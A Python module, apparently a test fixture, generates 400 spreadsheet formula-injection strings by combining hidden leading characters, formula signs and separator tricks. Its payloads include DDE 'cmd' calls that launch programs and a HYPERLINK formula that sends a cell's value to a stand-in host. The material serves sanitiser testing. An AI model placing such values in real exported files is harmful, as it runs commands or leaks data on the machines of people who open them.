"""Texts that spreadsheets could take for formulas: 400, made by combining beginnings, signs and formulas.

What a spreadsheet skips or strips before it looks (20 beginnings) with each of the 8 signs of a formula makes 160; 30
ways to hide such a text inside another make 240. Those come to life when a file is opened with another separator, or
by a program that splits lines or quotes in its own way. Each has one of 8 formulas in turn.
"""

from itertools import cycle

SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # the last four are their full-width forms
FORMULAS = (  # each behind one of the signs
    "cmd|' /C calc'!A0",
    "1+1",
    'HYPERLINK("https://example.nl/?x="&A1,"Klik")',
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("https://example.nl/")',
    "SUM(1;1)*cmd|' /C calc'!A0",
    'IMPORTXML("https://example.nl/","//a")',
    "2+5+cmd|' /C notepad'!A0",
)
BEGINNINGS = (
    "", " ", "   ", "\t", "\n", "\r", "\r\n", "'", "''", '"', '""', "\u00a0", "\u2003", "\u200b", "\ufeff", "\u2060",
    "\u202e", "“", " ' ", '\u200b "',
)  # fmt: skip
HIDDEN = (
    "a;{}", "a,{}", "a\t{}", "a\n{}", "a\r\n{}", "a\r{}", "a; {}", "a, {}", "a;\t{}", "a;'{}",
    'a";{}', 'a",{}', 'a";"{}', 'a","{}', '";{}', '",{}', ";{}", ",{}", ";;{}", ";,{}",
    'a"\n{}', 'a"\r\n{}', "a;\u00a0{}", "a;\u200b{}", "a,\ufeff{}", "a\\;{}", "a\\,{}", "a\t\t{}", "a,\u2060{}",
    "a;\n{}",
)  # fmt: skip


def _made() -> list[str]:
    formulas = cycle(FORMULAS)
    begun = [f"{beginning}{sign}{next(formulas)}" for beginning in BEGINNINGS for sign in SIGNS]
    return begun + [place.format(f"{sign}{next(formulas)}") for place in HIDDEN for sign in SIGNS]


VALUES = _made()
